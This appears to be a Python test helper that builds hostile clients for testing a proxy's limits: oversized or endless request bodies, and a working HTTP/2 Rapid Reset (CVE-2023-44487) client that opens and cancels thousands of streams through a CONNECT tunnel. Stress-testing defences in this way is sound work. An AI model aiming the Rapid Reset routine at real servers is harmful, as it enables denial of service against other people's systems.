"""Hostile clients for tests/test_limits.py and bench/attacks.py: endless bodies and an HTTP/2 rapid
reset (CVE-2023-44487)."""

import socket
import ssl

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

MIB = 1 << 20


class Sized:
    """A body of known length, read in pieces: requests sends it with Content-Length."""

    def __init__(self, total: int) -> None:
        self.left = self.total = total

    def __len__(self) -> int:
        return self.total

    def read(self, n: int = -1) -> bytes:
        n = self.left if n is None or n < 0 else min(n, self.left, MIB)
        self.left -= n
        return b"x" * n


def chunks(total: int, size: int = MIB):
    """A body of unknown length: requests sends it chunked."""
    sent = 0
    while sent < total:
        piece = min(size, total - sent)
        sent += piece
        yield b"x" * piece


def cpu_seconds(pid: int) -> float:
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100  # utime + stime in clock ticks (100/s)


def h2_socket(proxy_url, ca, host="graph.microsoft.com"):
    address = proxy_url.removeprefix("http://").rsplit(":", 1)
    sock = socket.create_connection((address[0], int(address[1])), timeout=10)
    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    assert sock.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(sock, server_hostname=host)
    assert tls.selected_alpn_protocol() == "h2"
    return tls


def rapid_reset(proxy_url, ca, streams=20000, host="graph.microsoft.com"):
    """Open and reset `streams` streams; returns (streams sent, how the connection ended)."""
    tls = h2_socket(proxy_url, ca, host)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", host),
        (":path", "/v1.0/print/taskDefinitions"),
        ("authorization", "Bearer x"),
    ]
    sent, ended = 0, "still open"
    tls.settimeout(0.001)
    try:
        while sent < streams:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            tls.sendall(conn.data_to_send())
            try:
                data = tls.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                continue
            if not data:
                ended = "closed"
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    ended = f"GOAWAY {h2.errors.ErrorCodes(event.error_code).name}"
            if ended != "still open":
                break
    except (OSError, ssl.SSLError) as e:
        ended = f"closed ({type(e).__name__})"
        try:  # the GOAWAY may be waiting unread
            tls.settimeout(1)
            for event in conn.receive_data(tls.recv(65536)):
                if isinstance(event, h2.events.ConnectionTerminated):
                    ended = f"GOAWAY {h2.errors.ErrorCodes(event.error_code).name}"
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
            pass
    finally:
        tls.close()
    return sent, ended
